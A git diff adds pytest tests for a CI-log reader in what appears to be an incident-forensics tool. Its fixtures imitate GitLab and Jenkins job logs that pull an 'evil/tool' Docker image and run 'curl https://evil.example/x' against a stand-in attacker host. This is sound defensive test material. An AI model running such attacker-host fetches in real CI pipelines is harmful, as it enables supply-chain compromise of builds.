@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import pytest
 from tests.evidence.packages_contract import purls
 from tests.evidence.reader_contract import holds_with_and_without_sieve, survives_anything
 from tests.evidence_kit import PLANT, read_bytes
@@ -9,7 +10,7 @@ from tests.evidence_kit import PLANT, read_bytes
 from nachsorge.evidence.identify import reader_for
 from nachsorge.evidence.readers.ci_log import CiLog
 from nachsorge.model.times import parse_instant
-from nachsorge.model.words import Telemetry
+from nachsorge.model.words import Reason, Telemetry
 
 COMMIT = "0e58ed8671d6b60d0890c21b07f8835ace038e67"
 BODY = f"""\ufeff2025-03-14T12:00:00.1234567Z Current runner version: '2.322.0'
@@ -44,6 +45,78 @@ def test_what_the_command_line_tool_gives():
     body = b"".join(b"build\tUNKNOWN STEP\t" + line + b"\n" for line in BODY.split(b"\n")[1:5])
     assert reader_for(body, "run.log").name == "ci_log"
     assert purls(read_bytes(CiLog(), body)[0]) == WANTED
+
+
+DIGEST = "sha256:" + "ab" * 32
+GITLAB = f"""2024-05-24T08:15:37.123456Z 00O \x1b[0KRunning with gitlab-runner 17.0.0 (44feccdf)\x1b[0;m
+2024-05-24T08:15:38.000000Z 00O Using Docker executor with image evil/tool:1.0 ...
+2024-05-24T08:15:39.000000Z 00O Using docker image sha256:0a for evil/tool:1.0 with digest evil/tool@{DIGEST} ...
+2024-05-24T08:15:40.000000Z 01O \x1b[36;1mevil.example\x1b[0m answered
+2024-05-24T08:15:41.000000Z 01E+and went on
+""".encode()
+OLD_GITLAB = f"""\x1b[0KRunning with gitlab-runner 16.0.0 (abc)\x1b[0;m
+\x1b[0K  on runner abc\x1b[0;m
+section_start:1680084000:prepare_executor\r\x1b[0K\x1b[0K\x1b[36;1mPreparing the "docker" executor\x1b[0;m
+\x1b[0KUsing docker image sha256:0a for evil/tool:1.0 with digest evil/tool@{DIGEST} ...\x1b[0;m
+section_end:1680084120:prepare_executor\r\x1b[0K
+$ npm ci
+$ curl https://evil.example/x
+""".encode()
+JENKINS = b"""Started by user \x1b[8mha:////4AAA==\x1b[0madmin
+[Pipeline] Start of Pipeline
+[Pipeline] node
+Running on Jenkins in /var/lib/jenkins/workspace/x
++ curl https://evil.example/x
+Finished: SUCCESS
+"""
+STAMPED = b"".join(b"[2023-03-29T10:00:0%d.000Z] " % at + line + b"\n" for at, line in enumerate(JENKINS.splitlines()))
+IMAGES = {"pkg:docker/evil/tool@1.0", "pkg:docker/evil/tool@" + DIGEST.replace(":", "%3A")}
+
+
+def test_a_job_of_gitlab_and_its_image():
+    assert reader_for(GITLAB, "job.log").name == "ci_log"
+    records, ledger = read_bytes(CiLog(), GITLAB, name="logs/job.log")
+    assert {purl.replace("sha256:", "sha256%3A") for purl in purls(records)} == IMAGES
+    assert records[3].event["message"] == "evil.example answered"
+    assert (ledger.first, ledger.last) == (
+        parse_instant("2024-05-24T08:15:37.123456Z"),
+        parse_instant("2024-05-24T08:15:41Z"),
+    )
+
+
+def test_an_older_job_of_gitlab_has_times_where_its_sections_begin_and_end():
+    assert reader_for(OLD_GITLAB, "job.log").name == "ci_log"
+    records, ledger = read_bytes(CiLog(), OLD_GITLAB)
+    assert [record.time is None for record in records] == [True, True, False, True, False, True, True]
+    assert records[2].event["message"] == 'prepare_executor Preparing the "docker" executor'
+    assert (ledger.first, ledger.last) == (parse_instant("2023-03-29T10:00:00Z"), parse_instant("2023-03-29T10:02:00Z"))
+
+
+def test_a_console_of_jenkins_has_times_only_with_its_plugin():
+    for body in (JENKINS, STAMPED):
+        assert reader_for(body, "consoleText").name == "ci_log"
+        records, ledger = read_bytes(CiLog(), body)
+        assert records[0].event["message"] == "Started by user admin"
+        assert any("evil.example" in record.event["message"] for record in records)
+        assert any(seen.spans for seen in ledger.seen()) == (body is STAMPED)
+    assert ledger.last == parse_instant("2023-03-29T10:00:05Z")
+    assert any(gap.reason is Reason.NO_TIME for gap in read_bytes(CiLog(), JENKINS)[1].gaps)
+
+
+@pytest.mark.parametrize("body", [GITLAB, OLD_GITLAB, JENKINS, STAMPED])
+def test_the_contract_of_the_others(body):
+    holds_with_and_without_sieve(CiLog(), body, b"evil.example")
+    survives_anything(CiLog(), body)
+    planted = CiLog().plant(body, PLANT)
+    assert reader_for(planted or b"", "").name == "ci_log"
+    records, _ = read_bytes(CiLog(), planted or b"")
+    assert PLANT.host in records[-1].event["message"]
+
+
+def test_colours_of_a_terminal_hide_no_word():
+    body = b"2025-03-14T12:00:00.1234567Z \x1b[36;1mchalk\x1b[22m@5.6.1\x1b[0m\n" * 2
+    (first, _), _ = read_bytes(CiLog(), body, b"no such literal")
+    assert first.event["message"] == "chalk@5.6.1"
 
 
 def test_the_contract():
